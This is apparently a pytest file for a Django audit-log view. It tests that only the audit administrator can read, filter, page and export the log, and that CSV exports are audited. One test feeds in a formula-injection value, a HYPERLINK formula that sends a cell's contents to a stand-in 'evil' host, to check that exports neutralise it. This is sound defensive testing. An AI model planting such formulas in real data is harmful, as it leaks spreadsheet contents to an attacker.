"""/audit/: only the audit administrator reads, filters and exports the log (三员分立)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tongban.core import audit, audit_units
from tongban.core.models import AuditRecord

pytestmark = pytest.mark.django_db
LOG = reverse("core:audit_log")
EXPORT = reverse("core:audit_export")


@pytest.fixture
def records():
    audit.record("identity.login", actor_name="zhangsan", unit_id=7, message="ok")
    audit.record("identity.login_failed", actor_name="zhangsan", unit_id=7, success=False)
    audit.record("identity.key_added", actor_name="lisi", unit_id=8, new={"name": "钥匙一"})
    audit.record("calendar.override_set", actor_name="sysadmin", new={"date": "2025-10-13"})


def test_anonymous_goes_to_login(client, records):
    for url in (LOG, EXPORT):
        r = client.get(url)
        assert r.status_code == 302 and reverse("identity:login") in r["Location"]
    assert not AuditRecord.objects.filter(event__startswith="audit.").exists()


@pytest.mark.parametrize("role", ["staff", "system_admin", "security_admin"])
def test_other_roles_refused_and_nothing_recorded(client, records, role, request):
    client.force_login(request.getfixturevalue(role))
    before = AuditRecord.objects.count()
    assert client.get(LOG).status_code == 403
    assert client.get(EXPORT).status_code == 403
    assert AuditRecord.objects.count() == before
    assert not AuditRecord.objects.filter(event="audit.exported").exists()


def test_superuser_without_audit_role_is_refused(client, records, make_user):
    su = make_user("root", is_superuser=True, is_staff=True)
    client.force_login(su)
    assert client.get(LOG).status_code == 403


def test_audit_admin_lists_and_filters(client, records, audit_admin):
    client.force_login(audit_admin)
    r = client.get(LOG)
    assert r.status_code == 200
    html = r.content.decode()
    assert "identity.key_added</code>" in html and "lisi" in html
    html = client.get(LOG, {"actor": "zhang"}).content.decode()
    assert "identity.login_failed</code>" in html and "identity.key_added</code>" not in html
    html = client.get(LOG, {"event": "identity.key_added"}).content.decode()
    assert "lisi" in html and "identity.login_failed</code>" not in html
    html = client.get(LOG, {"success": "0"}).content.decode()
    assert "identity.login_failed</code>" in html and "identity.key_added</code>" not in html
    html = client.get(LOG, {"unit": "8"}).content.decode()
    assert "identity.key_added</code>" in html and "identity.login</code>" not in html
    today = timezone.localdate()
    html = client.get(LOG, {"date_from": (today + timedelta(days=1)).isoformat()}).content.decode()
    assert "没有符合条件的记录" in html
    html = client.get(LOG, {"date_from": today.isoformat(), "date_to": today.isoformat()}).content.decode()
    assert "identity.key_added</code>" in html
    viewed = AuditRecord.objects.filter(event="audit.viewed").order_by("-seq").first()
    assert viewed.actor_id == audit_admin.pk


def test_unit_filter_uses_registered_names(client, records, audit_admin):
    def provider():
        return [(7, "县财政局"), (8, "县教育局")]

    audit_units.register(provider)
    try:
        client.force_login(audit_admin)
        html = client.get(LOG, {"unit": "7"}).content.decode()
        assert "县财政局" in html and '<option value="8">县教育局</option>' in html
        assert "identity.key_added</code>" not in html
    finally:
        audit_units.unregister(provider)


def test_paging_with_constant_queries(client, audit_admin):
    client.force_login(audit_admin)
    for i in range(60):
        audit.record("test.bulk", actor_name=f"u{i}")
    with CaptureQueriesContext(connection) as small:
        client.get(LOG, {"event": "test.bulk", "page": 2})
    for i in range(120):
        audit.record("test.bulk", actor_name=f"v{i}")
    with CaptureQueriesContext(connection) as big:
        r = client.get(LOG, {"event": "test.bulk"})
    assert len(big.captured_queries) == len(small.captured_queries)
    assert r.content.decode().count("<code>test.bulk</code>") == 50
    assert "1 / 4" in r.content.decode()


def test_export_csv_with_bom_is_audited(client, records, audit_admin):
    client.force_login(audit_admin)
    r = client.get(EXPORT, {"actor": "zhang"})
    assert r.status_code == 200
    assert r["Content-Type"].startswith("text/csv")
    raw = b"".join(r.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][0] == "序号"
    assert {row[2] for row in rows[1:]} == {"identity.login", "identity.login_failed"}
    assert any(row[13] == "失败" for row in rows[1:])
    rec = AuditRecord.objects.get(event="audit.exported")
    assert rec.actor_id == audit_admin.pk and rec.new["rows"] == 2 and rec.new["actor"] == "zhang"
    assert audit.verify().ok


def test_export_keeps_typed_text_from_becoming_a_spreadsheet_formula(client, audit_admin):
    # a failed login records whatever the visitor typed as the user name
    audit.record("identity.login_failed", actor_name='=HYPERLINK("http://evil/?x="&A1,"x")', success=False)
    audit.record("identity.key_added", actor_name="clerk", object_repr="@SUM(1+1)", message="-2+3")
    client.force_login(audit_admin)
    body = b"".join(client.get(EXPORT).streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil/?x="&A1,"x")' in cells
    assert "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
